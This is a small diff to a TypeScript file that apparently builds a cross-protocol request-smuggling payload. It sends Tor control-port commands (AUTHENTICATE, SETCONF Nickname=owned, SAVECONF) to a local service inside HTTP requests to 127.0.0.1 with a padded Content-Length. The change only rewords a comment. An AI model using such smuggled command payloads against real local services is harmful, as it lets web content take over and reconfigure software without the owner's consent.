@@ -16,7 +16,7 @@ const commands = 'AUTHENTICATE\r\nSETCONF Nickname=owned\r\nSAVECONF\r\nSIGNAL H
 
 const head = (line: string): string => `${line} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 9999\r\n\r\n`;
 
-/** Its first four bytes as the header of a frame whose body is filled up, so that what is smuggled would come next. */
+/** Its first four bytes as the header of a frame with a filled body, so that a smuggled request would come next. */
 const aligned = (text: string): Uint8Array => {
   const start = bytes(text);
   const length = bodyLength(start, 0);
